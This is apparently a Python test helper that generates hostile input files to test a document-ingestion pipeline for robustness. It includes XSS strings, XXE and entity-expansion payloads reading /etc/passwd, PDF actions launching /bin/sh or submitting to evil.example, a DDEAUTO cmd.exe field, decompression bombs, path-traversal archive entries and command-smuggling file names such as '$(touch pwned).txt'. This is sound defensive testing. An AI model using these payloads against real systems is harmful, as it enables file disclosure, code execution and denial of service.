"""Hostile documents: written into a folder with what shall become of each, and the stages run over
them as the notebooks do.

`python tests/tools/hostile.py FOLDER OUT` runs the stages over a folder and writes the tables; the
tests call it so, to stop what hangs.
"""

import base64
import io
import json
import os
import stat
import sys
import zipfile
import zlib
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any, NamedTuple

import packed
from places import case_rows

from lib.claims import extract
from lib.claims.evidence import faults
from lib.claims.extract import unfinished
from lib.cleaning.blocks import document
from lib.comparison.families import families
from lib.comparison.matches import comparison
from lib.comparison.origins import origins
from lib.comparison.profile import profile
from lib.ingest.documents import documents
from lib.tables import store
from lib.tables.store import Texts, of_documents, read_text, write_text, writing
from lib.text.spans import Repair, replay
from lib.work.limits import Limits

BODY = (
    "The Foreign Ministry in Kabul on Monday rejected the claim that it had broken the agreement,"
    " and officials said that talks would go on."
)
NEIGHBOURS = {
    "neighbour_1.txt": (
        "Harbour board rejects the bridge\n\nThe harbour board of Ileth on Monday rejected the plan"
        " for a second bridge. Governor Ann Lee said that the town would pay 12 million crowns.\n"
    ),
    "neighbour_2.md": (
        "# Bridge of Ileth\n\nAnn Lee, the governor, told reporters on Tuesday that the plan had"
        " failed.\n\n- The board voted twice.\n"
    ),
    "neighbour_3.html": (
        "<html><head><title>Bridge</title></head><body><article><h1>Bridge of Ileth</h1><p>The"
        " builders denied on Wednesday that the bridge would cost the town 15 million crowns, and"
        " called for a vote.</p><p>Officials of the harbour board said that nobody had shown them a"
        " plan for the road on the other side.</p></article></body></html>"
    ),
}


class Case(NamedTuple):
    """A hostile file: its name, what writes it, what becomes of it, and how the reason begins;
    records: of an export, how many."""

    name: str
    write: Callable[[Path], Any]
    status: str = "ok"
    reason: str | None = None
    records: int | None = None


def lines(name: str) -> list[dict[str, str]]:
    return case_rows(f"hostile/{name}")


def holding(data: bytes | str) -> Callable[[Path], Any]:
    raw = data.encode("utf-8", "surrogatepass") if isinstance(data, str) else data
    return lambda path: path.write_bytes(raw)


def of(name: str, data: bytes | str, status: str = "ok", reason: str | None = None) -> Case:
    return Case(name, holding(data), status, reason)


def refused(name: str, data: bytes | str, reason: str) -> Case:
    return Case(name, holding(data), "rejected", reason)


def page(body: str, head: str = "") -> str:
    return (
        "<html><head><title>Kabul rejects the"
        f" claim</title>{head}</head>"
        f"<body><article><p>{BODY}</p>{body}<p>{BODY}</p></article></body></html>"
    )


# Payloads in every format


def payloads() -> Iterator[Case]:
    """Each payload as text, as Markdown and in a web page; and all of them as records of two
    exports."""
    rows = lines("payloads.jsonl")
    for row in rows:
        label, text = (
            row["label"],
            f"{row['payload']}\n\n{BODY} {row['payload']} So it was, he said, in {row['label']}.\n",
        )
        for ending in (".txt", ".md") if label != "cell_markers" else (".txt",):
            yield of(
                f"payload_{label}{ending}", text.replace("So", "Thus") if ending == ".md" else text
            )
        yield of(
            f"payload_{label}.html",
            page(
                f"<p>{row['payload']} {BODY} This is {label}.</p>",
                f"<meta name=author content='{label}'>",
            ),
        )
    records = [
        {
            "text": f"{BODY} {row['payload']}",
            "title": row["payload"],
            "publisher": row["payload"],
            "url": row["payload"],
            "date": row["payload"],
        }
        for row in rows
    ]
    yield Case("payloads.jsonl", holding("\n".join(map(json.dumps, records))), records=len(rows))
    yield Case("payloads.csv", lambda path: write_csv(path, records), records=len(rows))


def write_csv(path: Path, records: list[dict[str, str]]) -> None:
    import csv

    with path.open("w", encoding="utf-8", errors="replace", newline="") as file:
        writer = csv.DictWriter(file, fieldnames=list(records[0]))
        writer.writeheader()
        writer.writerows(record | {"text": "As reported, " + record["text"]} for record in records)


def repeated(size: int) -> Iterator[Case]:
    """One unit again and again, after a sentence of a report."""
    for number, row in enumerate(lines("repeated.jsonl")):
        text = f"{BODY} {row['unit'] * (size // len(row['unit']))}"
        yield of(f"repeated_{number:02d}.txt", text)


def found() -> Iterator[Case]:
    """What fuzzing found: the smallest text of each failure, as it was."""
    for number, row in enumerate(lines("found.jsonl")):
        yield of(f"found_{number:02d}.txt", row["text"])


def long_ones() -> Iterator[Case]:
    """What is long, but small enough to be read in a moment."""
    yield refused("long_no_space.txt", "a" * 2_000_000, "too long: 2,000,000 characters")
    yield of("long_word.txt", f"{BODY} {'ab' * 450_000} The end.")
    yield of("long_full_stops.txt", f"{BODY} {'.' * 300_000} The end of the stops.")
    yield of("long_full_stops_apart.txt", f"{BODY} {'. ' * 100_000} The end of the stops apart.")
    yield of("long_nested_tags.txt", f"{'<div>' * 20_000}{BODY} It was nested.{'</div>' * 20_000}")
    yield of("long_nested_tags.md", f"{'<b><i>' * 10_000}{BODY} It was nested in letters.")
    yield of(
        "long_entities.txt", f"{BODY} &{'amp;' * 50_000}lt;b&gt; and {'&amp;' * 20_000} ended."
    )
    yield of("long_number.txt", f"{BODY} &#{'1' * 5_000}; and &#x{'1' * 5_000}; ended in numbers.")
    yield of(
        "long_unbalanced_quotes.txt",
        BODY + ' He said “no and "yes' * 2500 + " ended in a quotation.",
    )
    yield of("long_marks.txt", f"{BODY} Z{chr(0x301) * 100_000} ended in marks.")
    yield of("long_lines.txt", f"{BODY}{chr(10) * 300_000}The end of the lines.")


# Bytes and encodings


def encodings() -> Iterator[Case]:
    text = f"“Kabul” – café: {BODY}"
    yield of("encoding_utf16.txt", text.encode("utf-16"))
    yield of("encoding_utf32.txt", ("A " + text).encode("utf-32"))
    yield of("encoding_cp1252.txt", ("B " + text).encode("cp1252"))
    yield of(
        "encoding_mixed.txt", text.encode() + b"\n" + text.encode("cp1252") + b"\n\xff\xfe\x80"
    )
    yield refused("encoding_utf16_cut.txt", text.encode("utf-16")[:-1], "not text")
    yield refused("encoding_half_pair_utf16.txt", b"\xff\xfe" + b"a\0\x00\xd8b\0", "not text")
    yield refused("encoding_half_pair_utf8.txt", BODY.encode() + b"\0\xed\xa0\x80", "not text")
    yield of("encoding_overlong.txt", BODY.encode() + b" \xc0\xaf\xe0\x80\xaf here")
    yield refused("encoding_nul.txt", BODY.encode() + b"\0" * 100, "not text")
    yield refused("encoding_marks_only.txt", b"\xef\xbb\xbf", "empty")
    yield refused("encoding_random.txt", bytes(range(256)) * 50, "not text")
    yield refused("encoding_gzip.txt", b"\x1f\x8b\x08" + bytes(50), "not text")
    for name in (
        "utf-7",
        "unicode_escape",
        "raw_unicode_escape",
        "punycode",
        "idna",
        "hex",
        "zlib",
        "undefined",
        "no-such",
        "utf-16",
    ):
        declared = f"<meta charset='{name}'>"
        body = f"<p>\\ud800 +2AA- {BODY} Declared as {name}. \xe9</p>"
        yield of(f"declared_{name}.html", page(body, declared).encode("cp1252"))


# Web pages


def pages() -> Iterator[Case]:
    linked = [
        '{"publisher": {"name": "\\ud800 Times"}, "headline": "half \\udfff pair"}',
        "[" * 20_000,
        '{"a":' * 20_000,
        '{"headline": 1e999999}',
        '{"headline": ' + "9" * 5000 + "}",
        '{"publisher": {"name": ["x"]}, "headline": {"@value": "x"}}',
        "null",
    ]
    for number, data in enumerate(linked):
        yield of(
            f"page_linked_{number}.html",
            page(f"<p>{BODY} {number}</p>", f"<script type='application/ld+json'>{data}</script>"),
        )
    heads = {
        "title_long": f"<meta property='og:title' content='{'a' * 1_000_000}'>",
        "title_lines": "<meta property='og:title' content='one\n\n\n|two|\r=3'>",
        "site_long": f"<meta property='og:site_name' content='{'The Times ' * 10_000}'>",
        "date_long": f"<meta property='article:published_time' content='{'1' * 100_000}'>",
        "date_odd": "<meta property='article:published_time' content='99999-99-99T99:99:99+99:99'>",
        "date_many": "<meta name='date' content='2024-01-01'>" * 3000,
        "url_script": (
            "<link rel=canonical href='javascript:alert(1)'><meta property='og:url'"
            " content='data:text/html,x'>"
        ),
        "base": (
            "<base href='javascript:alert(1)//'><meta http-equiv=refresh"
            " content='0;url=file:///etc/passwd'>"
        ),
        "entities": (
            "<!DOCTYPE x [<!ENTITY a 'aaaaaaaaaa'><!ENTITY b '&a;&a;&a;&a;'><!ENTITY c SYSTEM"
            " 'file:///etc/passwd'>]>"
        ),
        "attributes": f"<meta {' '.join(f'a{number}=1' for number in range(20_000))}>",
    }
    for label, head in heads.items():
        yield of(f"page_{label}.html", page(f"<p>{BODY} This page is {label}.</p>", head))
    bodies = {
        "external_entity": "&c; &b; &xxe;",
        "plaintext": "<plaintext>",
        "unclosed": "<p><b><i><a href=x><table><tr><td>",
        "noscript": "<noscript><p>x</p>",
        "template": "<template><p>hidden</p></template>",
        "frames": "<frameset><frame src=javascript:alert(1)></frameset>",
        "math": (
            "<math><mtext><table><mglyph><style><img src=x"
            " onerror=alert(1)></style></mglyph></table></mtext></math>"
        ),
        "hidden": "<p style='display:none'>Hidden claim: the minister resigned.</p><p hidden>x</p>",
        "base64": f"<img src='data:image/png;base64,{base64.b64encode(bytes(300_000)).decode()}'>",
        "spans": "<p><a>x</a>" + "<span><img><a></a><a></a></span>" * 2000 + "</p>",
        "cells": "<table>" + "<tr><td>a<td>b" * 500,
    }
    for label, body in bodies.items():
        yield of(f"page_{label}.html", page(f"<p>{BODY} The page has {label}.</p>{body}"))
    yield of(
        "page_deep.html",
        "<html><body>" + "<div>" * 20_000 + f"<p>{BODY}</p><p>{BODY} It is deep.</p>",
        "rejected",
    )
    yield refused("page_empty.html", "<html><head></head><body></body></html>", "")
    yield refused(
        "page_script_only.html",
        "<html><body><script>document.write('x')</script></body></html>",
        "",
    )
    yield refused("page_no_tags.html", BODY, "")
    yield refused("page_nul.html", page("<p>a\0b</p>"), "not text")
    yield refused("page_binary.html", b"\x89PNG\r\n\x1a\n" + bytes(100), "not text")


# PDF


def pdf_of(objects: list[bytes], trailer: bytes = b"<< /Root 1 0 R /Size 20 >>") -> bytes:
    """A PDF of the objects, numbered from 1, with a right table of their places."""
    out, places = b"%PDF-1.7\n", []
    for number, data in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%b\nendobj\n" % (number, data)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    return out + b"xref\n0 %d\n0000000000 65535 f \n%btrailer\n%b\nstartxref\n%d\n%%%%EOF" % (
        len(places) + 1,
        table,
        trailer,
        len(out),
    )


def stream(data: bytes, extra: bytes = b"") -> bytes:
    return b"<< /Length %d %b >>\nstream\n%b\nendstream" % (len(data), extra, data)


def one_page(
    content: bytes,
    *,
    catalog: bytes = b"",
    page: bytes = b"",
    more: tuple[bytes, ...] = (),
    size: bytes = b"[0 0 612 792]",
) -> bytes:
    font = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"
    return pdf_of(
        [
            b"<< /Type /Catalog /Pages 2 0 R %b >>" % catalog,
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox %b /Contents 4 0 R /Resources << /Font << /F1"
            b" 5 0 R >> /XObject << /X 6 0 R >> >> %b >>" % (size, page),
            content,
            font,
            *more,
        ]
    )


def words(label: str) -> bytes:
    shown = b"".join(
        b"(%b) Tj 0 -14 Td " % line.encode()
        for line in (BODY[:70], BODY[70:], f"This was said of {label}.")
    )
    return b"BT /F1 12 Tf 60 700 Td " + shown + b"ET"


def pdfs() -> Iterator[Case]:
    yield of("pdf_plain.pdf", one_page(stream(words("plain"))))
    script = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
    acts = {
        "javascript": script,
        "launch": b"<< /S /Launch /F (/bin/sh) >>",
        "uri": b"<< /S /URI /URI (file:///etc/passwd) >>",
        "goto_file": b"<< /S /GoToR /F (/etc/passwd) /D [0 /Fit] >>",
        "submit": b"<< /S /SubmitForm /F (https://evil.example) >>",
        "import": b"<< /S /ImportData /F (/etc/passwd) >>",
    }
    for label, action in acts.items():
        yield of(
            f"pdf_{label}.pdf",
            one_page(
                stream(words(label)),
                catalog=b"/OpenAction " + action,
                page=b"/AA << /O " + action + b" >>",
            ),
        )
    files = (
        b"/Names << /EmbeddedFiles << /Names [(../../x.sh) << /Type /Filespec /F (../../x.sh) /EF"
        b" << /F 6 0 R >> >>] >> >>"
    )
    yield of(
        "pdf_embedded_file.pdf",
        one_page(stream(words("an embedded file")), catalog=files, more=(stream(b"#!/bin/sh"),)),
    )
    outside = b"<< /Length 0 /F (/etc/passwd) >>\nstream\n\nendstream"
    yield of(
        "pdf_external_stream.pdf",
        one_page(stream(words("a stream elsewhere") + b" /X Do"), more=(outside,)),
    )
    itself = stream(
        words("a form in itself") + b" /X Do",
        b"/Type /XObject /Subtype /Form /BBox [0 0 600 800] /Resources << /XObject << /X 6 0 R"
        b" >> >>",
    )
    yield of(
        "pdf_form_in_itself.pdf",
        one_page(stream(words("a form") + b" /X Do"), more=(itself,)),
        "ok",
    )
    packed = zlib.compress(b" " * 200_000_000, 9)
    yield refused(
        "pdf_bomb.pdf",
        one_page(stream(words("a bomb")), more=(stream(packed, b"/Filter /FlateDecode"),)),
        "too large: it unpacks",
    )
    twice = zlib.compress(zlib.compress(b" " * 500_000_000, 9), 9)
    yield of(
        "pdf_bomb_in_bomb.pdf",
        one_page(stream(twice, b"/Filter [/FlateDecode /FlateDecode]")),
        "rejected",
    )
    yield of(
        "pdf_page_in_itself.pdf",
        pdf_of(
            [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [2 0 R] /Count 1 >>"]
        ),
        "rejected",
    )
    kids = b"<< /Type /Pages /Kids [%b] /Count 999999999 >>" % (b"3 0 R " * 3)
    yield of(
        "pdf_false_count.pdf",
        pdf_of([b"<< /Type /Catalog /Pages 2 0 R >>", kids, b"<< /Type /Page /Parent 2 0 R >>"]),
        "rejected",
    )
    loop = one_page(stream(words("a loop")))
    yield of(
        "pdf_table_of_itself.pdf",
        loop.replace(b"/Size 20", b"/Size 20 /Prev %d" % loop.rfind(b"xref\n0")),
        "ok",
    )
    yield of(
        "pdf_length_in_itself.pdf",
        one_page(b"<< /Length 4 0 R >>\nstream\n" + words("a length") + b"\nendstream"),
        "ok",
    )
    yield of(
        "pdf_length_negative.pdf",
        one_page(stream(words("a negative length")).replace(b"/Length ", b"/Length -")),
        "ok",
    )
    yield of(
        "pdf_nested_arrays.pdf",
        one_page(stream(b"[" * 50_000 + words("nested arrays"))),
        "rejected",
    )
    yield of(
        "pdf_nested_catalog.pdf",
        one_page(stream(words("a nested catalog")), catalog=b"/A " + b"<< /B " * 20_000),
        "ok",
    )
    yield of("pdf_saved_states.pdf", one_page(stream(b"q " * 50_000 + words("saved states"))))
    yield of(
        "pdf_huge_page.pdf", one_page(stream(words("a huge page")), size=b"[0 0 1e30 1e30]"), "ok"
    )
    yield of(
        "pdf_no_page_size.pdf", one_page(stream(words("no page size")), size=b"[0 0 0 0]"), "ok"
    )
    yield of(
        "pdf_size_of_words.pdf",
        one_page(stream(words("a page size of words")), size=b"[(a) (b) null 1]"),
        "ok",
    )
    yield of(
        "pdf_odd_numbers.pdf",
        one_page(
            stream(b"BT /F1 1e99 Tf 1e308 0 0 -1e308 nan inf Tm (x) Tj ET " + words("odd numbers"))
        ),
        "ok",
    )
    yield of(
        "pdf_on_one_place.pdf",
        one_page(stream(b"BT /F1 12 Tf 60 700 Td " + b"(a) Tj 0 0 Td " * 3000 + b"ET")),
        "ok",
    )
    table = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /ToUnicode 6 0 R >>"
    mapped = (
        b"begincmap 1 begincodespacerange <00> <ff> endcodespacerange 1 beginbfrange <00> <ff>"
        b" <d800> endbfrange endcmap"
    )
    halves = one_page(stream(words("half pairs")), more=(stream(mapped),)).replace(
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>", table
    )
    yield of("pdf_half_pairs.pdf", halves, "rejected", "no text")
    yield refused("pdf_broken.pdf", one_page(stream(words("broken")))[:300], "")
    yield refused("pdf_head_only.pdf", b"%PDF-1.7\n", "damaged")
    yield refused("pdf_text.pdf", BODY.encode(), "damaged")
    yield refused("pdf_random.pdf", b"%PDF-1.7\n" + bytes(range(256)) * 100, "damaged")
    yield of(
        "pdf_reversed.pdf",
        b"%PDF-1.7\n" + one_page(stream(words("a reversed file")))[::-1],
        "rejected",
    )
    yield Case("pdf_encrypted.pdf", encrypted, "rejected", "encrypted")


def encrypted(path: Path) -> None:
    from reportlab.lib.pdfencrypt import StandardEncryption
    from reportlab.pdfgen.canvas import Canvas

    canvas = Canvas(str(path), encrypt=StandardEncryption("user", "owner"), invariant=True)
    canvas.drawString(60, 700, BODY)
    canvas.save()


# Word

HEAD = '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>'
TAIL = "</w:body></w:document>"


def paragraph(text: str) -> str:
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


def word_file(body: str, *, before: str = "", extra: dict[str, bytes] | None = None) -> bytes:
    import docx

    buffer, new = io.BytesIO(), io.BytesIO()
    docx.Document().save(buffer)
    with zipfile.ZipFile(buffer) as old, zipfile.ZipFile(new, "w", zipfile.ZIP_DEFLATED) as archive:
        parts = (
            {name: old.read(name) for name in old.namelist()}
            | {"word/document.xml": f"{before}{HEAD}{body}{TAIL}".encode()}
            | (extra or {})
        )
        for name, data in parts.items():
            archive.writestr(zipfile.ZipInfo(name), data, zipfile.ZIP_DEFLATED)
    return new.getvalue()


def word_files() -> Iterator[Case]:
    def text(label: str) -> str:
        return paragraph(BODY) + paragraph(f"This was said of {label}.")

    grown = "".join(f'<!ENTITY a{i} "{f"&a{i - 1};" * 10}">' for i in range(1, 10))
    yield of("word_plain.docx", word_file(text("plain words")))
    yield refused(
        "word_entities.docx",
        word_file(paragraph("&a9;"), before=f'<!DOCTYPE d [<!ENTITY a0 "lol">{grown}]>'),
        "damaged",
    )
    outside = '<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    yield of(
        "word_external_entity.docx",
        word_file(text("a file") + paragraph("&x;"), before=outside),
        "ok",
    )
    yield refused("word_bomb.docx", word_file(paragraph(" " * 50_000_000)), "too large: it unpacks")
    yield refused(
        "word_bomb_beside.docx",
        word_file(text("a bomb"), extra={"word/media/image1.png": bytes(50_000_000)}),
        "too large: it unpacks",
    )
    yield of(
        "word_leaves.docx",
        word_file(
            text("names that leave"), extra={"../../../tmp/x.sh": b"#!/bin/sh", "/etc/passwd": b"x"}
        ),
    )
    linked = (
        b"<Relationships"
        b' xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship'
        b' Id="rId99" TargetMode="External" '
    )
    linked += (
        b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"'
        b' Target="file:///etc/passwd"/></Relationships>'
    )
    yield of(
        "word_template.docx",
        word_file(text("a template"), extra={"word/_rels/document.xml.rels": linked}),
        "ok",
    )
    yield of(
        "word_nested.docx",
        word_file(
            "<w:sdt><w:sdtContent>" * 100 + text("nested parts") + "</w:sdtContent></w:sdt>" * 100
        ),
    )
    yield refused(
        "word_deep.docx",
        word_file(
            "<w:sdt><w:sdtContent>" * 5000 + text("deep parts") + "</w:sdtContent></w:sdt>" * 5000
        ),
        "damaged",
    )
    cells = "<w:tbl><w:tr><w:tc>" * 80 + text("tables in tables") + "</w:tc></w:tr></w:tbl>" * 80
    yield of("word_tables.docx", word_file(text("tables") + cells))
    yield of(
        "word_fields.docx",
        word_file(
            text("fields")
            + paragraph(
                "</w:t></w:r><w:r><w:instrText>DDEAUTO c:\\\\cmd.exe</w:instrText></w:r><w:r><w:t>"
            )
        ),
    )
    yield refused(
        "word_no_xml.docx", word_file("", extra={"word/document.xml": b"not xml"}), "damaged"
    )
    yield refused(
        "word_no_types.docx",
        word_file(text("no types"), extra={"[Content_Types].xml": b"<x/>"}),
        "damaged",
    )
    yield refused("word_empty_archive.docx", b"PK\x05\x06" + bytes(18), "damaged")
    yield refused("word_cut.docx", word_file(text("a cut"))[:900], "damaged")
    yield refused(
        "word_old.docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(1000), "an old Word document"
    )
    yield refused(
        "word_locked.docx",
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(100) + "EncryptedPackage".encode("utf-16-le"),
        "encrypted",
    )
    yield refused("word_text.docx", BODY, "damaged")


# Exports


def exports() -> Iterator[Case]:
    odd = [
        {
            "text": f"{BODY} One.\0\x1b",
            "title": "\ud800 half",
            "url": "javascript:alert(1)",
            "date": "1" * 100_000,
        },
        {
            "text": f"{BODY} Two.",
            "title": "=1+1",
            "publisher": {"name": "\udfff"},
            "date": {"$date": 1},
        },
        {"text": {"name": f"{BODY} Three."}, "title": ["x"]},
        {"text": 5},
        {"TEXT": f"{BODY} Four.", "Text": f"{BODY} Five."},
        {"\ud800": "x"},
        {"text": f"{BODY} Six.", "date": "9999999999-99-99"},
        {"text": f"{BODY} Seven.", "title": "a\n\n| b |\n---"},
        {},
    ]
    broken = [
        "{",
        "[]",
        "null",
        '"text"',
        "[" * 50_000,
        '{"text": ' + "9" * 5000 + "}",
        '{"text": NaN}',
        '{"a":' * 50_000,
        "\x1e{}",
    ]
    yield Case(
        "odd.jsonl",
        holding("\n".join([*map(json.dumps, odd), *broken])),
        records=len(odd) + len(broken),
    )
    yield Case("unclosed.csv", holding(f'text,title\n"{BODY} Unclosed,=1\n{BODY},x\n'), records=2)
    yield Case(
        "wide.csv",
        holding(
            "text," + ",".join(f"c{i}" for i in range(5000)) + f"\n{BODY.replace(',', '')} Wide.\n"
        ),
        records=1,
    )
    yield Case(
        "twice.csv",
        holding(f'text,text,title,title\n"{BODY} Twice.","{BODY} Again.",=1,=2\n'),
        records=1,
    )
    yield Case("returns.csv", holding(f'text\r"{BODY} Returns."\r\r\r'), records=1)
    yield refused("no_text.csv", "=1,+2,-3,@4\n" * 3, "no column of texts")
    yield refused("heads.csv", "text\n", "empty")
    yield refused("long_head.csv", "x" * 1_000_000 + "\n1\n", "no column of texts")
    yield refused("nul.csv", b"text\na\0b\n", "not text")
    yield refused("blank.jsonl", "\n\n \n", "empty")


# Names and what is no file

NAMES = (
    "with space.txt",
    "'single'.txt",
    '"double".txt',
    "new\nline.txt",
    "$(touch pwned).txt",
    "`id`.txt",
    "=1+1.txt",
    "-rf.txt",
    "--help.txt",
    "@x.txt",
    "+1.txt",
    "a;b&c|d.txt",
    "<b>bold<b>.txt",
    "[link](javascript:x).txt",
    "$x^2$.txt",
    "%s%n{0}.txt",
    "\u202egpj.txt",
    "عربي.txt",
    "e\u0301.txt",
    "é.txt",
    "\U0001f600.txt",
    "tab\there.txt",
    "bell\x07.txt",
    "back\\slash.txt",
    "a" * 251 + ".txt",
    "CON.txt",
    "x.TXT",
    "two..dots.txt",
    "*.txt",
    "?.txt",
    "#1.txt",
    "a#1.txt",
    "~.txt",
    "trailing .txt",
    "nbsp\u00a0.txt",
    "zero\u200bwidth.txt",
)


def node(path: Path) -> None:
    """A device that gives zeros without end; a pipe where nobody may make a device."""
    try:
        os.mknod(path, stat.S_IFCHR | 0o644, os.makedev(1, 5))
    except OSError:
        os.mkfifo(path)


def names() -> Iterator[Case]:
    for number, name in enumerate(NAMES):
        yield of(name, f"{BODY} This file has name {number}.")
    yield refused("no_ending", BODY, "format without an ending")
    yield refused("picture.png", BODY, "format .png")
    yield refused(".hidden.txt", BODY, "hidden")
    yield refused("empty.txt", "", "empty")
    yield Case(
        "zz_copy.txt", holding(NEIGHBOURS["neighbour_1.txt"]), "duplicate", "the same bytes as"
    )
    yield refused("zz_long.txt", "word " * 300_000, "too long: 1,500,000 characters")
    yield Case(
        "zz_huge.txt",
        lambda path: (path.touch(), os.truncate(path, 60_000_000)),
        "rejected",
        "too large: 60,000,000 bytes",
    )
    yield Case("fifo.txt", os.mkfifo, "rejected", "not a regular file")
    yield Case("node.txt", node, "rejected", "not a regular file")
    yield Case(
        "device.txt", lambda path: path.symlink_to("/dev/zero"), "rejected", "a link that leaves"
    )
    yield Case(
        "leaves.txt", lambda path: path.symlink_to("/etc/passwd"), "rejected", "a link that leaves"
    )
    yield Case(
        "nowhere.txt",
        lambda path: path.symlink_to("missing.txt"),
        "rejected",
        "a link that leads nowhere",
    )
    yield Case("loop.txt", lambda path: path.symlink_to("loop.txt"), "rejected", "cannot be read")
    yield Case(
        "up",
        lambda path: path.symlink_to("..", target_is_directory=True),
        "rejected",
        "a link that leaves",
    )
    yield Case(
        "here",
        lambda path: path.symlink_to(".", target_is_directory=True),
        "rejected",
        "a link to a folder",
    )
    yield Case(
        "shut.txt",
        lambda path: (path.write_text(f"{BODY} This is shut."), path.chmod(0)),
        "any" if os.geteuid() == 0 else "rejected",
    )


def cases(size: int = 2000) -> list[Case]:
    """All hostile cases; size: characters of each repetition."""
    made = [
        payloads(),
        repeated(size),
        found(),
        long_ones(),
        encodings(),
        pages(),
        pdfs(),
        word_files(),
        exports(),
        names(),
        (of(*one) for one in packed.hostile() if "/" not in one[0]),
    ]
    return [case for group in made for case in group]


def brief(size: int) -> list[Case]:
    """The cases, but each payload in one format only: text, Markdown and web page in turn."""
    every, formats = cases(size), {}
    for case in every:
        if case.name.startswith("payload_"):
            formats.setdefault(Path(case.name).stem, []).append(case)
    chosen = [found[number % len(found)] for number, found in enumerate(formats.values())]
    return [case for case in every if case in chosen or not case.name.startswith("payload_")]


def write(folder: Path, hostile: list[Case]) -> None:
    """The hostile files and their neighbours in the folder."""
    folder.mkdir(parents=True, exist_ok=True)
    for name, text in NEIGHBOURS.items():
        (folder / name).write_text(text, encoding="utf-8")
    for case in hostile:
        case.write(folder / case.name)


# The stages


def run(folder: Path, out: Path) -> None:
    """The tables of the folder's documents in `out`, by the calls that the notebooks make."""
    if ok := ingested(folder, out):
        texts = Texts(out, [row["doc_id"] for row in ok])
        cleaned(texts, out)
        claimed(ok, texts, out)
        compared(ok, out)


def ingested(folder: Path, out: Path) -> list[dict]:
    """The rows of the documents that are ok."""
    rows = []
    for row, text in documents(folder, limits=Limits()):
        rows.append(row)
        if row["status"] == "ok":
            path = out / "texts" / f"{row['doc_id']}.txt"
            write_text(path, text)
            assert read_text(path) == text
    store.write(out, "documents", rows)
    return [row for row in rows if row["status"] == "ok"]


def cleaned(texts: Texts, out: Path) -> None:
    with writing(out, "repairs") as log, writing(out, "blocks") as cut:
        for doc_id, text in texts.items():
            repairs, blocks = document(doc_id, text)
            log(repairs)
            cut(blocks)


def claimed(ok: list[dict], texts: Texts, out: Path) -> None:
    parts, late = (of_documents(out, name, texts) for name in ("blocks", "repairs")), []
    with writing(out, "claims") as add:
        for rows, silent in extract.of_each(
            ok, zip(texts.values(), *parts, strict=True), seconds=Limits().max_seconds
        ):
            add(rows)
            late += unfinished(silent)
    store.write(out, "unfinished", late)
    written = (of_documents(out, name, texts) for name in ("claims", "repairs"))
    for doc_id, rows, logged in zip(texts, *written, strict=True):
        text = texts[doc_id]
        fixes = [Repair(*(row[name] for name in Repair._fields)) for row in logged]
        assert faults(rows, {doc_id: text}, {doc_id: replay(text, fixes)}) == []


def compared(ok: list[dict], out: Path) -> None:
    parts = {
        name: store.rows(out, name) for name in ("blocks", "repairs", "unfinished", "claims")
    } | {"documents": ok}
    parts["origins"] = origins(ok, parts["blocks"], parts["repairs"], one_story=True)
    parts["matches"] = comparison(
        parts["claims"], parts["origins"], threshold=0.4, steps=[0.3]
    ).matches
    parts["families"] = families(parts["claims"], parts["matches"], parts["origins"])
    parts["profile"] = profile(parts)
    for name in ("origins", "matches", "families", "profile"):
        store.write(out, name, parts[name])


if __name__ == "__main__":
    run(Path(sys.argv[1]), Path(sys.argv[2]))
